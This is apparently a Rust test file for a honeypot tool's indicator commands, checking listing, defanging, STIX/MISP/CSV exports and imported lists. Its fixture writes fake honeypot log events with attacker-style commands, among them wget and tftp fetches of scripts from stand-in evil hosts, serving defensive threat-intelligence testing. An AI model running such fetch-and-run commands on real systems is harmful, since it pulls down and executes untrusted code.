//! `honeyguide indicators`: the list of a running daemon and of the directory, and exports read by the programs they are for.
mod python;
mod served;

use honeyguide::cli::context::Exit;
use serde_json::{Value, json};
use served::{Daemon, Home, log};
use std::path::{Path, PathBuf};
use std::process::Command;

const LISTS: &str = "[indicators]\nown = [\"192.0.2.0/24\", \"*.mine.top\"]\nallow = [\"scanner.top\"]\ndeny = [\"http://evil-*.top/*\"]\n";

/// Lines that attackers would like to see exported.
fn hostile() -> Vec<u8> {
    let typed = [
        "wget http://evil-1.top/a.sh",
        "wget http://evil-2.top/it's\\a'%20OR%20[x",
        "curl https://github.com/x/y -o z",
        "wget http://www.mine.top/x",
        "wget http://scanner.top/x http://8.8.8.8/x http://127.0.0.1:8080/x",
        "echo 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        "echo 1BoatSLRHtKNngkdXEeobR76b53LETtpyT CVE-2024-3721 a@evil-mail.top d41d8cd98f00b204e9800998ecf8427f",
        "tftp -g -r x 45.9.148.99; ping evil-9.top",
    ];
    let mut lines = Vec::new();
    for (second, input) in typed.iter().enumerate() {
        let time = format!("2026-03-22T10:00:{second:02}.000000Z");
        let event = json!({
            "eventid": "cowrie.command.input", "input": input, "session": "0123456789ab", "sensor": "pot", "timestamp": time,
            "src_ip": if second % 2 == 0 { "185.220.101.1" } else { "2a01:4f8::1" }, "message": "CMD",
        });
        lines.extend(event.to_string().into_bytes());
        lines.push(b'\n');
    }
    let file = json!({
        "eventid": "cowrie.session.file_download", "url": "http://evil-1.top/a.sh", "outfile": "x", "session": "0123456789ab",
        "shasum": "9a2b1c".repeat(11)[..64], "sensor": "pot", "timestamp": "2026-03-22T10:01:00.000000Z", "src_ip": "185.220.101.1",
    });
    lines.extend(file.to_string().into_bytes());
    lines.push(b'\n');
    lines
}

fn home() -> Home {
    let home = Home::with(LISTS);
    home.write("hostile.json", &hostile());
    home.write("cowrie.json", &log(7, 3_000));
    let path = |name: &str| home.path(name).to_string_lossy().into_owned();
    home.expect(Exit::Done, &["load", &path("hostile.json"), &path("cowrie.json")]);
    home
}

fn find<'v>(rows: &'v Value, kind: &str, value: &str) -> &'v Value {
    let row = rows.as_array().and_then(|rows| rows.iter().find(|row| row["kind"] == kind && row["value"] == value));
    row.unwrap_or_else(|| panic!("no {kind} {value} in {rows:#}"))
}

#[test]
fn a_daemon_lists_what_the_directory_lists_and_lists_say_what_is_harmless() {
    let home = home();
    let asked = ["indicators", "list", "--limit", "10000"];
    let rows = home.json(Exit::Done, &asked);
    for (kind, value, list) in [
        ("url", "http://evil-1.top/a.sh", None),
        ("url", "https://github.com/x/y", Some("top domains and software")),
        ("url", "http://www.mine.top/x", Some("own")),
        ("url", "http://scanner.top/x", Some("allow")),
        ("url", "http://8.8.8.8/x", Some("public resolvers")),
        ("url", "http://127.0.0.1:8080/x", Some("private and reserved addresses")),
    ] {
        assert_eq!(find(&rows, kind, value)["warning"].as_str(), list, "{value}");
    }
    assert_eq!(find(&rows, "url", "http://evil-1.top/a.sh")["score"], 100);
    assert_eq!(find(&rows, "src_ip", "185.220.101.1")["count"], 5);
    assert_eq!(find(&rows, "shasum", &"9a2b1c".repeat(11)[..64])["count"], 1);
    {
        let _daemon = Daemon::start(&home);
        assert_eq!(home.json(Exit::Done, &asked), rows);
        let filtered = ["indicators", "list", "--kind", "url,src_ip", "--sensor", "pot", "--min-count", "2", "--since", "2026-03-22"];
        let through = home.json(Exit::Done, &filtered);
        assert_eq!(through.as_array().map(Vec::len), Some(3), "{through:#}");
        let refused = home.fails(&["indicators", "list", "--since", "nonsense"]);
        assert!(format!("{refused:#}").contains("nonsense"), "{refused:#}");
    }
    let text = home.expect(Exit::Done, &asked);
    assert!(text.contains("hxxp://evil-1[.]top/a.sh") && !text.contains("http://"), "{text}");
    assert!(home.expect(Exit::Done, &["indicators", "list", "--limit", "10000", "--raw"]).contains("http://evil-1.top/a.sh"));
}

#[test]
fn exports_have_what_is_hostile_and_with_all_the_rest() {
    let home = home();
    // The lines are old by the time of the test: only what the operator denies or never expires is sure to be hostile still.
    let document = home.expect(Exit::Done, &["indicators", "export", "--format", "json"]);
    let document: Value = serde_json::from_str(&document).expect("JSON");
    assert_eq!(document["schema"], "honeyguide.indicators/1");
    let rows = document["indicators"].as_array().expect("a list");
    assert!(!rows.is_empty() && rows.iter().all(|row| row["warning"].is_null() && row["expired"] == false), "{document:#}");
    let all = home.expect(Exit::Done, &["indicators", "export", "--format", "plain", "--all"]);
    assert!(all.contains("\n185.220.101.1\n") && all.contains("\nevil-9.top\n") && !all.contains("http"), "{all}");
    let csv = home.path("all.csv");
    home.expect(Exit::Done, &["indicators", "export", "--format", "csv", "--all", "--out", &csv.to_string_lossy()]);
    let csv = std::fs::read_to_string(csv).expect("written");
    assert!(csv.starts_with("kind,value,score,") && csv.contains("\nurl,http://evil-1.top/a.sh,100,"), "{csv}");
    assert!(home.fails(&["indicators", "export", "--format", "misp"]).to_string().contains("--out"));
}

#[test]
fn a_feed_loses_the_events_it_has_no_more_and_nothing_else() {
    let home = home();
    let feed = home.path("feed");
    let export = |more: &[&str]| {
        let out = feed.to_string_lossy().into_owned();
        let words: Vec<&str> = ["indicators", "export", "--format", "misp", "--all", "--out", &out].iter().chain(more).copied().collect();
        home.expect(Exit::Done, &words);
        let files = std::fs::read_dir(&feed).expect("made").map(|entry| entry.expect("read").file_name().into_string().expect("UTF-8"));
        let mut files: Vec<String> = files.collect();
        files.sort();
        files
    };
    let whole = export(&[]);
    std::fs::write(feed.join("index.html"), "somebody's").expect("written");
    let part = export(&["--kind", "btc"]);
    assert_eq!(part.len(), 4, "{part:?}");
    assert!(part.iter().all(|file| file == "index.html" || whole.contains(file)));
    assert_eq!(export(&[]).len(), whole.len() + 1);
}

#[test]
fn one_indicator_is_told_with_its_sensors_days_events_and_commands() {
    let home = home();
    let told = home.json(Exit::Done, &["indicators", "show", "hxxp://evil-1[.]top/a.sh"]);
    assert_eq!(told["value"], "http://evil-1.top/a.sh");
    let kinds = told["kinds"].as_array().expect("a list");
    assert_eq!(kinds.len(), 1, "{told:#}");
    assert_eq!((&kinds[0]["sensors"], &kinds[0]["days"]), (&json!([["pot", 2]]), &json!([["2026-03-22", 2]])));
    assert_eq!(told["sightings"].as_array().map(Vec::len), Some(2));
    let session = &told["sessions"][0];
    assert_eq!(
        (&session["id"], &session["commands"][0], &session["more"]),
        (&json!("0123456789ab"), &json!("wget http://evil-1.top/a.sh"), &json!(false))
    );
    assert_eq!(session["commands"].as_array().map(Vec::len), Some(8));
    let file = home.json(Exit::Done, &["indicators", "show", &"9A2B1C".repeat(11)[..64]]);
    assert_eq!(
        (&file["kinds"][0]["indicator"]["kind"], file["sightings"].as_array().map(Vec::len)),
        (&json!("shasum"), Some(1)),
        "{file:#}"
    );
    {
        let _daemon = Daemon::start(&home);
        assert_eq!(home.json(Exit::Done, &["indicators", "show", "http://evil-1.top/a.sh"]), told);
        assert!(format!("{:#}", home.fails(&["indicators", "show", "evil.nowhere"])).contains("no indicator"));
    }
    let page = home.expect(Exit::Done, &["indicators", "show", "185.220.101.1"]);
    assert!(page.contains("185[.]220[.]101[.]1") && page.contains("by sensor  pot 5") && page.contains("session 0123456789ab"), "{page}");
}

#[test]
fn what_an_outside_list_knows_is_marked_and_scores_higher() {
    let home = home();
    let row = || find(&home.json(Exit::Done, &["indicators", "list", "--limit", "10000"]), "domain", "evil-9.top").clone();
    let before = row();
    assert!(before["known_in"].is_null(), "{before}");
    let list = home.write("list.txt", b"# theirs\nevil-9[.]top\n10.0.0.0/8\n");
    let import = |file: &Path| home.json(Exit::Done, &["indicators", "import", &file.to_string_lossy(), "--name", "theirs"]);
    assert_eq!(import(&list), json!({ "values": 1, "skipped": 1 }));
    let daemon = Daemon::start(&home);
    let known = row();
    assert_eq!((&known["known_in"], known["score"].as_u64()), (&json!(["theirs"]), before["score"].as_u64().map(|score| score + 10)));
    // A running daemon sees the list that takes its place.
    assert_eq!(import(&home.write("empty.txt", b"")), json!({ "values": 0, "skipped": 0 }));
    assert_eq!(row(), before);
    drop(daemon);
    assert!(home.fails(&["indicators", "import", &list.to_string_lossy(), "--name", "../x"]).to_string().contains("--name"));
}

/// A Python with both readers, or why there is none.
fn python() -> Result<PathBuf, String> {
    let imports = "import stix2validator, pymisp, importlib.metadata as all; assert all.version('stix2-validator') == '3.2.0'";
    python::with("indicator-readers", &["stix2-validator==3.2.0", "pymisp>=2.5,<2.6"], imports)
}

fn passes(python: &Path, script: &str, argument: &Path) {
    let output = Command::new(python).args(["-c", script]).arg(argument).output().expect("Python runs");
    let told = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    assert!(output.status.success(), "{}{}", told(&output.stdout), told(&output.stderr));
    println!("{}", told(&output.stdout));
}

/// The validator checks the schema, the rules of the text that a schema cannot tell, and the grammar of each pattern. It comes with the
/// schemas (3.3.1 does not), but newer ones of its libraries would fetch them; here they are read from where they lie.
const STIX: &str = r#"
import json, os, sys
import jsonschema, stix2validator
schemas = os.path.join(os.path.dirname(stix2validator.__file__), "schemas-2.1", "schemas")
jsonschema.validators.RefResolver.resolve_remote = lambda self, uri: json.load(open(os.path.join(schemas, uri.split("/schemas/", 1)[1])))
from stix2validator import ValidationOptions, print_results, validate_file
results = validate_file(sys.argv[1], ValidationOptions(version="2.1", strict_types=True, strict_properties=True))
print_results([results])
assert results.is_valid
objects = json.load(open(sys.argv[1]))["objects"]
kinds = {o["pattern"].split(" ")[0] for o in objects if o["type"] == "indicator"}
assert kinds >= {"[ipv4-addr:value", "[ipv6-addr:value", "[url:value", "[domain-name:value", "[file:hashes.'SHA-256'", "[file:hashes.MD5"}, kinds
assert len({o["id"] for o in objects}) == len(objects)
print(len(objects), "objects")
"#;

/// Types and categories are checked as an event is loaded; what was loaded is compared with what was written.
const MISP: &str = r#"
import hashlib, json, os, sys
from pymisp import MISPEvent
feed = sys.argv[1]
manifest = json.load(open(os.path.join(feed, "manifest.json")))
hashes = {tuple(line.split(",")) for line in open(os.path.join(feed, "hashes.csv")).read().split()}
assert manifest
kinds = set()
for uuid, about in manifest.items():
    path = os.path.join(feed, uuid + ".json")
    event = MISPEvent(strict_validation=True)
    event.load_file(path, validate=True)
    written = json.load(open(path))["Event"]
    assert event.uuid == uuid and event.info == about["info"] and event.orgc.name == "Honeyguide"
    assert len(event.attributes) == len(written["Attribute"]) > 0
    for attribute in event.attributes:
        kinds.add(attribute.type)
        assert (hashlib.md5(attribute.value.encode()).hexdigest(), uuid) in hashes, attribute.value
assert kinds >= {"ip-src", "url", "domain", "sha256", "md5", "btc", "xmr", "vulnerability", "email-src"}, kinds
print(len(manifest), "events", sorted(kinds))
"#;

#[test]
fn stix_and_misp_are_read_by_the_programs_they_are_for() {
    let python = match python() {
        Ok(python) => python,
        Err(reason) => {
            println!("SKIPPED: stix_and_misp_are_read_by_the_programs_they_are_for: {reason}");
            return;
        }
    };
    let home = home();
    let (bundle, feed) = (home.path("bundle.json"), home.path("feed"));
    home.expect(Exit::Done, &["indicators", "export", "--format", "stix", "--all", "--out", &bundle.to_string_lossy()]);
    home.expect(Exit::Done, &["indicators", "export", "--format", "misp", "--all", "--out", &feed.to_string_lossy()]);
    passes(&python, STIX, &bundle);
    passes(&python, MISP, &feed);
}
